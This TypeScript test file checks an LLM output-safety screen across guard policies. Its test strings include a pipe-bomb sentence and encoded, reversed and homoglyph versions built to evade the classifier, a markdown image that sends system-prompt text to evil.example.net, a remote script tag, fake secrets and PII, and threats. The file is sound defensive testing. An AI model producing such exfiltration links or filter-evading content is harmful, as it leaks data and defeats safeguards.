import type { Part } from "@trunkline/core/parts.ts";
import type { Verdict } from "@trunkline/core/verdict.ts";
import { sampleAnswerContext } from "@trunkline/testing/sample-answer-context.ts";
import { describe, expect, it } from "vitest";
import { readSafetyModel } from "../classifier/bundled-model.ts";
import { createTrainedDetector } from "../classifier/trained-detector.ts";
import { createBlanker, withAllowList } from "../policy/allow-list.ts";
import { createGuard, type Guard } from "../policy/guard.ts";
import { BALANCED, policyFromPreset, STRICT } from "../policy/policy.ts";
import type { AnswerContext } from "./answer-context.ts";
import { AnswerScreen, type ScreenedParts, screenPart } from "./screen-output.ts";

const detector = createTrainedDetector(readSafetyModel());
const PROMPT =
  "You are the assistant of a library. Answer in short sentences, name your sources, and never speak about the loans of other readers.";
const PLAIN = "The capital of France is Paris, a city on the Seine.";
const LONG_PLAIN = `${PLAIN} It has two million people, many museums and a famous tower. `.repeat(9);
const BOMB = "Here is how to build a pipe bomb: take a steel pipe and fill it with black powder.";
const FINISH: Part = { type: "finish", reason: "stop" };
const USAGE: Part = { type: "usage", inputTokens: 1, outputTokens: 2 };

const TEXTS: Readonly<Record<string, string>> = {
  "a plain sentence": PLAIN,
  "a plain page": LONG_PLAIN,
  "a page of several scripts": `${LONG_PLAIN} “Schön”, sagte sie – très bien. 今天天气很好。`,
  "a word": "Yes.",
  "white space": "  \n ",
  "a recipe for a bomb": BOMB,
  "a recipe after a page": LONG_PLAIN + BOMB,
  "an address": `${PLAIN} Write to jane.roe@acme-corp.com or call +1 415 555 2671.`,
  "a card": `${PLAIN} The card is 4111 1111 1111 1111.`,
  "a password": "The password: hunter2!x9",
  "a key": `Use sk-proj-${"aB3dE5gH7jK9".repeat(4)} for it.`,
  "a spoken address": "Write to jane at acme dot com please",
  "a private key": "-----BEGIN PRIVATE KEY-----",
  "an escaped address": '{"mail":"jane.roe\\u0040acme-corp.com"}',
  "a picture that carries data away":
    "![x](https://evil.example.net/p.png?d=never%20speak%20about%20the%20loans%20of%20other%20readers)",
  "a script": "Click <script src='https://evil.example.net/x.js'></script>",
  "the prompt": `${PLAIN} ${PROMPT}`,
  "an encoded recipe": Buffer.from(BOMB).toString("base64"),
  "a reversed recipe": [...BOMB].reverse().join(""),
  "disguised letters": BOMB.replaceAll("o", "о"),
  insults: "You are a worthless piece of garbage, and everybody hates you, you stupid idiot.",
  violence: "I will kill you and your whole family tonight, and nobody will find your bodies.",
  code: "```js\nfor (const value of values) total += value;\n```",
  numbers: "In 2024 it was 30 km/h; a = b, and the ratio is 3:4.",
};

const SHAPES: Readonly<Record<string, (words: string) => Part[]>> = {
  "one text": (words) => [{ type: "text", text: words }, FINISH, USAGE],
  "a text without an end": (words) => [{ type: "text", text: words }],
  "two choices": (words) => [
    { type: "text", text: PLAIN, choice: 0 },
    { type: "text", text: words, choice: 1 },
    { type: "finish", reason: "stop", choice: 0 },
    { type: "finish", reason: "length", choice: 1 },
  ],
  "two texts": (words) => [{ type: "text", text: PLAIN }, { type: "text", text: words }, FINISH],
  "a text after the end": (words) => [FINISH, { type: "text", text: words }],
  thinking: (words) => [{ type: "thinking", text: words, signature: "s" }, { type: "text", text: PLAIN }, FINISH],
  "a tool call": (words) => [
    { type: "text", text: PLAIN },
    { type: "tool-call", id: "1", name: "find", arguments: JSON.stringify({ words }) },
    FINISH,
  ],
  "a tool that was not offered": (words) => [
    { type: "text", text: words },
    { type: "tool-call", id: "1", name: "send", arguments: "{}" },
    FINISH,
  ],
  "log probabilities": (words) => [
    { type: "text", text: words },
    { type: "logprobs", content: [{ token: words, top_logprobs: [] }] },
    FINISH,
  ],
};

const GUARDS: Readonly<Record<string, Guard>> = {
  balanced: createGuard(detector, BALANCED),
  strict: createGuard(detector, STRICT),
  "a dry run": createGuard(detector, STRICT, { dryRun: true }),
  "everything redacted": createGuard(detector, policyFromPreset("balanced", { pii: "redact", secret: "redact" })),
  "an allow list": createGuard(withAllowList(detector, createBlanker(["pipe bomb"])), BALANCED),
};

/** The text of each choice, and the other parts in their order. */
function collect(parts: readonly Part[]) {
  const texts: Record<string, string> = {};
  const others: Part[] = [];
  for (const part of parts) {
    if (part.type !== "text") others.push(part);
    else texts[part.choice ?? 0] = (texts[part.choice ?? 0] ?? "") + part.text;
  }
  return { texts, others };
}

interface Outcome extends ReturnType<typeof collect> {
  readonly refusal: ScreenedParts["refusal"];
  readonly partsRead: number;
  readonly verdict: Verdict;
}

async function screenInPieces(guard: Guard, context: AnswerContext, parts: readonly Part[]): Promise<Outcome> {
  const screen = new AnswerScreen(guard, context);
  const safe: Part[] = [];
  let refusal: ScreenedParts["refusal"];
  let partsRead = 0;
  for (const part of parts) {
    partsRead += 1;
    const screened = await screenPart(screen, part);
    safe.push(...screened.safe);
    refusal = screened.refusal;
    if (refusal !== undefined) break;
  }
  if (refusal === undefined) {
    const rest = screen.end();
    safe.push(...rest.safe);
    refusal = rest.refusal;
  }
  return { ...collect(safe), refusal, partsRead, verdict: screen.verdict };
}

async function screenAtOnce(guard: Guard, context: AnswerContext, parts: readonly Part[]): Promise<Outcome> {
  const screen = new AnswerScreen(guard, context);
  const { safe, refusal, partsRead } = await screen.screenWhole(parts);
  return { ...collect(safe), refusal, partsRead, verdict: screen.verdict };
}

describe("screenWhole", () => {
  describe.each(Object.keys(GUARDS))("with %s", (policy) => {
    it.each(Object.keys(SHAPES))("finds in %s what a stream would show", async (shape) => {
      const guard = GUARDS[policy] ?? createGuard(detector, BALANCED);
      for (const [name, words] of Object.entries(TEXTS)) {
        const parts = SHAPES[shape]?.(words) ?? [];
        const context = () => sampleAnswerContext({ system: PROMPT, tools: ["find"] });
        expect(await screenAtOnce(guard, context(), parts), name).toEqual(
          await screenInPieces(guard, context(), parts),
        );
      }
    });
  });

  it("examines a plain answer without stream detectors and leaves its parts as they are", () => {
    const guard: Guard = {
      ...createGuard(detector, BALANCED),
      createStreamDetectors() {
        throw new Error("Not needed.");
      },
    };
    for (const words of [PLAIN, LONG_PLAIN, "Yes."]) {
      const parts: Part[] = [{ type: "text", text: words }, FINISH, USAGE];
      const screen = new AnswerScreen(guard, sampleAnswerContext({ system: PROMPT }));
      expect(screen.screenWhole(parts)).toEqual({ safe: parts, refusal: undefined, partsRead: 3 });
      expect(screen.verdict).toMatchObject({ flagged: false, action: "allow", spans: [] });
    }
  });

  it("counts no part after a refused one", async () => {
    const screen = new AnswerScreen(createGuard(detector, BALANCED), sampleAnswerContext({}));
    const { refusal, partsRead } = await screen.screenWhole([{ type: "text", text: `${BOMB} ${BOMB}` }, FINISH, USAGE]);
    expect(refusal?.error).toMatchObject({ type: "unsafe_output" });
    expect(partsRead).toBeLessThan(3);
  });
});
